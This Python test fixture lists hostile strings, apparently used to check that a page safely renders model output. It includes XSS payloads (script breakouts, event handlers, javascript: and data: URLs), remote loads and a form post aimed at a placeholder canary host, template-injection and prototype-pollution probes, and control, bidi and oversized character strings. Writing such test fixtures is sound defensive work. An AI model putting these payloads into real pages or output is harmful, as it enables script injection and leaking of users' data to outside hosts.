"""Texts that a model could say to break out of a page. Each that runs leaves a mark: see `MARK`."""

MARK = "window.pwned=1;document.title='pwned'"
AWAY = "http://canary.invalid/"
"""An address that is never to be asked."""

HOSTILE = [
    # Scripts, and the ends of what they may stand in.
    f"<script>{MARK}</script>",
    f"</script><script>{MARK}</script>",
    f"</script ><script\t>{MARK}</script\n>",
    f"<ScRiPt src={AWAY}x.js></sCrIpT>",
    f"<script type=module>import('{AWAY}m.js')</script>",
    f"<!--<script>{MARK}<!--",
    f"--><script>{MARK}</script><!--",
    f"</pre></details></section></main><script>{MARK}</script>",
    f"</title></style></noscript></textarea></xmp><script>{MARK}</script>",
    f"]]><script>{MARK}</script><![CDATA[",
    # Handlers.
    f'<img src=x onerror="{MARK}">',
    f'<svg onload="{MARK}"><animate onbegin="{MARK}" attributeName=x dur=1s>',
    f'<body onload="{MARK}"><details open ontoggle="{MARK}">',
    f'" onmouseover="{MARK}" autofocus onfocus="{MARK}',
    f"' onclick='{MARK}' x='",
    f'<iframe srcdoc="<script>parent.{MARK}</script>"></iframe>',
    f'<input autofocus onfocus="{MARK}"><video><source onerror="{MARK}">',
    # Addresses.
    f'<a href="javascript:{MARK}">go</a> javascript:{MARK}',
    f'<iframe src="data:text/html,<script>parent.{MARK}</script>"></iframe>',
    f'<object data="{AWAY}o"></object><embed src="{AWAY}e"><link rel=stylesheet href="{AWAY}s.css">',
    f'<meta http-equiv=refresh content="0;url={AWAY}"><base href="{AWAY}">',
    f'<form action="{AWAY}"><button>send</button></form>',
    f'<img src="{AWAY}pixel.png"> ![x]({AWAY}md.png)',
    # Style.
    f"<style>*{{display:none!important}} @import '{AWAY}i.css';</style>",
    f"</style><style>body{{background:url({AWAY}b.png)}}",
    '<div style="position:fixed;inset:0;background:red;z-index:9999">all is well</div>',
    "<plaintext>",
    "<!-- never closed",
    "<textarea><xmp><noscript><template>",
    "<table><tr><td></div></table>",
    # Templates and strings.
    "{{ results.title }} {% raw %} {# x #} ${7*7} #{7*7} <%= 7*7 %>",
    f"`${{{MARK}}}` \\u003cscript\\u003e{MARK}\\u003c/script\\u003e",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;b&#62; &amp;amp;",
    '"],["},{}]}\\" \\\\ \\n \\u0000',
    "__proto__",
    "constructor",
    # Characters.
    "\x00\x01\x08\x0b\x0c\x1b[31mred\x1b[0m\x7f\x9b31m",
    "\u202egnp.exe\u202c \u2066hidden\u2069 \u200b\u200d\ufeff\u00ad",
    "\ud800 lone \udfff \udc00\ud800",
    "\u2028line\u2029paragraph\u0085next",
    "\U000e0041\U000e0042 \ue000 \ufffe \U0010ffff",
    "\r\rback\r\nnext",
    "Z" + "\u0301" * 400 + "\u0489" * 40,
    "\u0627\u0644\u0639\u0631\u0628\u064a\u0629 <b>abc</b> \u05e2\u05d1\u05e8\u05d9\u05ea",
    "x" * 50_000,
    "\n" * 3000 + "end",
]
